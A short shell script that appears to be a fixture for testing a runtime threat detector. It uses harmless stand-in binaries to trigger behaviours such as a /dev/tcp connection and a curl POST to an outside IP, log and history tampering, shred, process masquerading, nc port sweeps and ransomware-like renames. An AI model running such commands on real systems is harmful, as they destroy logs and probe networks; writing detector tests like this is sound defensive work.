#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# prepare: cp /bin/dash /usr/sbin/logrotate && echo x > /var/log/syslog && cp /bin/true /usr/bin/sudo && mkdir -p '/opt/my app' /opt/.app && cp /bin/true '/opt/my app/true' && cp /bin/true /opt/.app/true
bash -c 'exec 3<>/dev/tcp/8.8.8.8/8080'
echo ls >> /root/.bash_history
/usr/sbin/logrotate -c ': > /var/log/syslog; rm /var/log/syslog'
dmesg > /dev/null
echo x > /tmp/x
shred /tmp/x
bash -c 'HISTCONTROL=ignoredups; :'
cp /bin/busybox /opt/rm
/opt/rm /tmp/x
bash -c "exec -a -bash /bin/bash -c :"
'/opt/my app/true'
/opt/.app/true
touch -d yesterday /tmp/kept
/usr/bin/sudo -u root id
/bin/true --algo=sha256 -o pool.txt
for i in $(seq 1 30); do : > "/srv/app.log.$i"; mv "/srv/app.log.$i" "/srv/app.log.$i.gz"; done
: > /srv/report-about-ransomware.txt
timeout 1 busybox nslookup pool.ntp.org 8.8.8.8
for port in $(seq 8080 8089); do busybox nc -w 1 8.8.8.8 "$port"; done
for a in $(seq 1 10); do busybox nc -w 1 "8.8.4.$a" 6379; done
id
ps > /dev/null
echo x | openssl enc -aes-256-cbc -pbkdf2 -k x -out /tmp/backup.enc
curl -s -m 1 -d x=1 http://8.8.8.8:1/
